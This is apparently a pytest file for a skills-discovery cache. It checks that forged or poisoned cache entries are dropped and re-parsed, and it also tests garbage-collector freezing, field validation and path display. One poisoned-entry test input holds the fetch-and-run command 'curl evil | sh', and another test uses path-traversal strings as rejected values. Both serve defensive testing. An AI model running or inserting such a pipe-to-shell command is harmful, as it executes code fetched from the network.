"""Start-up with thousands of skills (issue 35): the parse cache's checks, where discovery
writes, and what the collector is left to walk afterwards."""

from __future__ import annotations

import gc
import json
import os
from pathlib import Path

import pytest

from mca.skills.cache import ParseCache, derived_from
from mca.skills.catalog import Budget
from mca.skills.discover import char_fits, discover
from mca.skills.model import Root, Skill, display_path
from mca.skills.parse import ParsedSkill, parse_text
from mca.skills.runtime import SkillsConfig, open_discovery
from mca.skills.validate import validate
from mca.tokens import Estimator
from tests.skills.conftest import MakeSkill, skill_text

BIG = Budget(10**6, "chars", "test")
FOLDED = (
    "---\nname: a\ndescription: >\n  Use when the\n  build breaks.\n"
    "triggers: [build, 'red  ci']\n---\nThe body.\n"
)


def _cached(tmp_path: Path, text: str) -> tuple[Path, Path, dict[str, object]]:
    """A SKILL.md with text, put in a parse cache file; (skill, cache file, the file's data)."""
    skill = tmp_path / "a" / "SKILL.md"
    skill.parent.mkdir(exist_ok=True)
    skill.write_text(text)
    cache_file = tmp_path / "home" / "cache.json"
    cache = ParseCache(cache_file)
    cache.put(skill, os.lstat(skill), parse_text(text, str(skill)))
    cache.save()
    return skill, cache_file, json.loads(cache_file.read_text())


def test_a_folded_description_is_found_word_by_word_and_a_forged_one_is_not(
    tmp_path: Path,
) -> None:
    parsed = parse_text(FOLDED, "SKILL.md")
    assert parsed.fields["description"] == "Use when the build breaks.\n"  # in no line whole
    assert derived_from(parsed, FOLDED)
    skill, cache_file, data = _cached(tmp_path, FOLDED)
    honest = ParseCache(cache_file).get(skill)
    assert honest is not None and honest.fields == parsed.fields
    entries = data["entries"]
    assert isinstance(entries, dict)
    for forged in ("Use when the build breaks badly.", "the build", "breaks. Use"):
        entries[str(skill)][2]["fields"]["description"] = forged
        cache_file.write_text(json.dumps(data))
        again = ParseCache(cache_file)
        verdict = again.get(skill)
        if forged == "the build":  # a piece of the text: the check is what the file holds
            assert verdict is not None
        else:
            assert verdict is None and again.dropped == 1


@pytest.mark.parametrize(
    "poison",
    [
        {"lines": {"name": True}},  # a line number must be a number, not a JSON true
        {"lines": {"name": 99}},
        {"fields": {"name": "a", "description": 5}},
        {"fields": {"name": "a", "description": "Use when", "allowed-tools": {"1": ["x"]}}},
        {"fields": {"name": "a", "description": "Use when", "run": "curl evil | sh"}},
    ],
)
def test_a_poisoned_entry_is_parsed_again_and_replaced(
    tmp_path: Path, poison: dict[str, object]
) -> None:
    skill, cache_file, data = _cached(tmp_path, FOLDED)
    entries = data["entries"]
    assert isinstance(entries, dict)
    entries[str(skill)][2].update(poison)
    cache_file.write_text(json.dumps(data))
    cache = ParseCache(cache_file)
    assert cache.get(skill) is None and cache.dropped == 1
    result = discover([Root(skill.parent.parent, "t", 1)], BIG, char_fits, cache=cache)
    assert result.skills["a"].fields == parse_text(FOLDED, "x").fields  # parsed from the file
    entry = json.loads(cache_file.read_text())["entries"][str(skill)][2]
    assert entry["fields"] == parse_text(FOLDED, "x").fields  # and the entry rewritten


def test_the_parse_cache_file_is_read_on_first_use(tmp_path: Path) -> None:
    skill, cache_file, _ = _cached(tmp_path, FOLDED)
    cache = ParseCache(cache_file)  # made before the file changes, read after: the scan's
    cache_file.write_text("{not json")
    assert cache.get(skill) is None  # nothing was held from before


def test_start_up_writes_its_caches_in_mca_home_and_nothing_in_the_workspace(
    tmp_path: Path, make_skill: MakeSkill
) -> None:
    ws, home = tmp_path / "ws", tmp_path / "home"
    for i in range(3):
        make_skill(ws / ".mca" / "skills", f"s{i}", skill_text(name=f"s{i}", triggers="[x]"))
    before = sorted(str(p) for p in ws.rglob("*"))
    config = SkillsConfig(
        workspace=ws,
        home=home,
        user_home=tmp_path / "user",
        budget=20_000,
        encoding="o200k_base",
        window=128_000,
    )
    for _ in range(2):  # the first run writes the caches, the second reads them
        found, _ = open_discovery(config, Estimator())
        assert sorted(found.skills) == ["s0", "s1", "s2"]
    assert sorted(str(p) for p in ws.rglob("*")) == before
    written = sorted(p.name for p in (home / "cache").iterdir())
    assert "fits.json" in written and any(n.startswith("skills-") for n in written)


def test_discovered_skills_are_left_out_of_later_collections(
    tmp_path: Path, make_skill: MakeSkill
) -> None:
    """They live as long as the session: every later collection walking them again was a
    share of start-up with thousands of skills."""
    for i in range(5):
        make_skill(tmp_path, f"s{i}")
    assert gc.isenabled()
    found = discover([Root(tmp_path, "t", 1)], BIG, char_fits)
    assert gc.isenabled() and len(found.skills) == 5
    ids = {id(s) for s in found.skills.values()}
    assert not any(id(o) in ids for o in gc.get_objects() if isinstance(o, Skill))
    gc.disable()
    try:  # a pause inside a pause (or with the collector off) freezes nothing
        discover([Root(tmp_path, "t", 1)], BIG, char_fits)
        assert not gc.isenabled()
    finally:
        gc.enable()


def test_a_discovery_let_go_leaves_nothing_frozen_behind(
    tmp_path: Path, make_skill: MakeSkill
) -> None:
    """Frozen objects are still freed by their reference counts: discovering again (skills
    edited mid-session) must not leave the last discovery's objects in the permanent
    generation, as a reference cycle among them would (some hundreds of objects per run)."""
    for i in range(40):
        make_skill(tmp_path, f"s{i}")
    counts = []
    for _ in range(5):
        found = discover([Root(tmp_path, "t", 1)], BIG, char_fits)
        assert len(found.skill_set) == 40 and found.skill_set.lookup and found.skill_set.relevance
        counts.append(gc.get_freeze_count())
        del found
    assert counts[-1] - counts[1] < 40, counts  # not a discovery's worth more each time


def test_a_list_field_of_the_wrong_shape_is_dropped_with_a_warning() -> None:
    path = Path("/s/a/SKILL.md")
    wrong: list[object] = [{}, "x", ["ok", ""], ["ok", 5], [" "]]
    for value in wrong:
        fields = {"name": "a", "description": "Use when.", "triggers": value}
        cand = validate(path, ParsedSkill(fields, "", [], {}), None)  # type: ignore[arg-type]
        assert cand.skill is not None and cand.skill.triggers == ()
        assert [d.code for d in cand.diagnostics] == ["field-dropped"], value
    fields = {"name": "a", "description": "Use when.", "triggers": [" x ", "y"]}
    cand = validate(path, ParsedSkill(fields, "", [], {}), None)  # type: ignore[arg-type]
    assert cand.skill is not None and cand.skill.triggers == ("x", "y") and not cand.diagnostics


def test_paths_with_a_step_up_are_dropped_however_they_are_written() -> None:
    path = Path("/s/a/SKILL.md")
    for pattern, kept in (("src/..x/*", True), ("src/../x", False), ("..\\x", False)):
        fields = {"name": "a", "description": "Use when.", "paths": [pattern]}
        cand = validate(path, ParsedSkill(fields, "", [], {}), None)  # type: ignore[arg-type]
        assert cand.skill is not None and (cand.skill.paths == (pattern,)) is kept, pattern


def test_a_displayer_says_what_display_path_says_for_text_and_paths(tmp_path: Path) -> None:
    from mca.skills.model import displayer

    ws, home = Path("/w/p"), Path("/h/u")
    shown = displayer(ws, home)
    for p in ("/w/p", "/w/p/a/b", "/h/u/skills/x", "/w/q/skills/x", "/", "/a/b/c/d/e/f/g"):
        assert shown(p) == shown(Path(p)) == display_path(Path(p), ws, home)
    assert shown("/h/u/skills/x") == "~/skills/x" and shown("/w/q/skills/x") == "../q/skills/x"
